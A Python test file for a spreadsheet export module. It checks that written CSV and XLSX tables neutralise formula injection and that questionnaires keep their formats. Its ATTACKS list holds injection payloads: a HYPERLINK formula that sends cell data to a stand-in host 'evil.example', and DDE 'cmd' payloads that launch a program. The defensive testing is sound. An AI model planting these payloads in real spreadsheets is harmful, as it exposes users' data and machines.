"""Tables that are written must not run in a spreadsheet program, and questionnaires come back as they were."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook
from openpyxl.styles import Font

from strongroom.errors import UsageError
from strongroom.spreadsheet import fill_xlsx, neutral, read_grid, write_table

ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\n=1+1",
    "＝1+1",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_words_of_a_document_never_become_a_formula(tmp_path: Path, attack: str) -> None:
    for suffix in (".csv", ".xlsx"):
        path = tmp_path / f"out{suffix}"
        write_table(path, ["a", attack], [[attack, "b"]])
        if suffix == ".csv":
            with path.open(encoding="utf-8-sig", newline="") as source:
                cells = [cell for row in csv.reader(source) for cell in row]
            assert all(cell.startswith("'") for cell in cells if cell not in "ab")
        else:
            for row in load_workbook(path).active.iter_rows():
                for cell in row:
                    assert cell.data_type == "s"
                    assert cell.value in "ab" or cell.value.startswith("'")


def test_numbers_stay_what_they_are() -> None:
    for text in ("-12.5", "+3", "-4%", "2014-05-01", "EUR 3", "", "-", "A = B"):
        assert neutral(text) == text
    assert neutral("a\x00b") == "a\ufffdb"
    assert len(neutral("x" * 40_000)) == 32_767


def test_json_holds_the_items_and_a_wrong_suffix_is_refused(tmp_path: Path) -> None:
    write_table(tmp_path / "a.json", ["x"], [["=1"]])
    assert json.loads((tmp_path / "a.json").read_text()) == [{"x": "=1"}]
    with pytest.raises(UsageError, match="no table"):
        write_table(tmp_path / "a.ods", ["x"], [])
    with pytest.raises(UsageError, match="cannot write"):
        write_table(tmp_path / "nowhere" / "a.csv", ["x"], [])


def test_a_table_is_replaced_in_one_step_and_is_the_owners(tmp_path: Path) -> None:
    path = tmp_path / "a.csv"
    write_table(path, ["x"], [["1"]])
    write_table(path, ["x"], [["2"]])
    assert path.read_text("utf-8-sig").split() == ["x", "2"]
    assert path.stat().st_mode & 0o077 == 0
    assert [p.name for p in tmp_path.iterdir()] == ["a.csv"]


def test_an_xlsx_questionnaire_keeps_its_formats_and_formulas(tmp_path: Path) -> None:
    book = Workbook()
    sheet = book.active
    sheet.append(["No", "Question", "Weight"])
    sheet.append([1, "Who signs?", "=A2*2"])
    sheet["B1"].font = Font(bold=True)
    book.save(tmp_path / "in.xlsx")
    fill_xlsx(tmp_path / "in.xlsx", tmp_path / "out.xlsx", {(0, 3): "Answer", (1, 3): "=1+1"})
    sheet = load_workbook(tmp_path / "out.xlsx").active
    assert sheet["B1"].font.bold
    assert sheet["C2"].value == "=A2*2"
    assert (sheet["D1"].value, sheet["D2"].value, sheet["D2"].data_type) == ("Answer", "'=1+1", "s")


def test_the_column_of_questions_is_found_or_asked_for(tmp_path: Path) -> None:
    path = tmp_path / "q.csv"
    path.write_text("No;Requirement;By\n1;Who signs?;x\n;;\n2;When?;y\n", encoding="utf-8-sig")
    grid = read_grid(path)
    assert grid.questions(None) == grid.questions("requirement") == grid.questions("B") == (0, 1)
    assert len(grid.rows) == 4  # blank rows keep their place
    with pytest.raises(UsageError, match="no column"):
        grid.questions("Answer")
    path.write_text("a,b\n1,2\n")
    with pytest.raises(UsageError, match="not clear"):
        read_grid(path).questions(None)
    (tmp_path / "bad.xlsx").write_bytes(b"no zip")
    with pytest.raises(UsageError, match="no XLSX"):
        read_grid(tmp_path / "bad.xlsx")


@pytest.mark.parametrize(
    ("text", "wanted", "expected"),
    [
        ("Due diligence 2026,,\n,,\nNo,Question,Comment\n1,Who signs?,\n", None, (2, 1)),
        ("Due diligence 2026,,\nNo,Question,Comment\n1,Who signs?,\n", "B", (1, 1)),
        ("Please answer every question of this questionnaire,\nNo,Question\n1,Who signs?\n", None, (1, 1)),
        ("Requirement ID,Requirement\nR1,Backups are encrypted.\n", None, (0, 1)),
        ("Text\nWho signs?\n", None, (0, 0)),
    ],
)
def test_titles_may_stand_below_the_name_of_the_sheet(
    tmp_path: Path, text: str, wanted: str | None, expected: tuple[int, int]
) -> None:
    path = tmp_path / "q.csv"
    path.write_text(text)
    assert read_grid(path).questions(wanted) == expected


def test_a_question_is_not_swallowed_as_a_title_and_an_empty_sheet_says_so(tmp_path: Path) -> None:
    path = tmp_path / "q.csv"
    path.write_text("Which law governs the agreement?\nWho signs it?\n")
    with pytest.raises(UsageError, match="row 1 holds a question"):
        read_grid(path).questions(None)
    path.write_text("")
    with pytest.raises(UsageError, match="empty"):
        read_grid(path).questions(None)


def test_unicode_text_of_spreadsheet_programs_is_read(tmp_path: Path) -> None:
    path = tmp_path / "q.txt"
    path.write_text("No\tQuestion\n1\tWer haftet für Mängel?\n", encoding="utf-16")
    assert read_grid(path).rows == (("No", "Question"), ("1", "Wer haftet für Mängel?"))
    path.write_bytes("Frage\nfür\n".encode("cp1252"))
    with pytest.raises(UsageError, match="UTF-8"):
        read_grid(path)


def test_cells_merged_over_an_answer_are_parted(tmp_path: Path) -> None:
    book = Workbook()
    book.active.append(["Question"])
    book.active.append(["Who signs?"])
    book.active.merge_cells("A1:D1")
    book.active.merge_cells("A2:D2")
    book.save(tmp_path / "in.xlsx")
    fill_xlsx(tmp_path / "in.xlsx", tmp_path / "out.xlsx", {(1, 2): "Odile"})
    sheet = load_workbook(tmp_path / "out.xlsx").active
    assert sheet["C2"].value == "Odile"
    assert [str(merged) for merged in sheet.merged_cells.ranges] == ["A1:D1"]
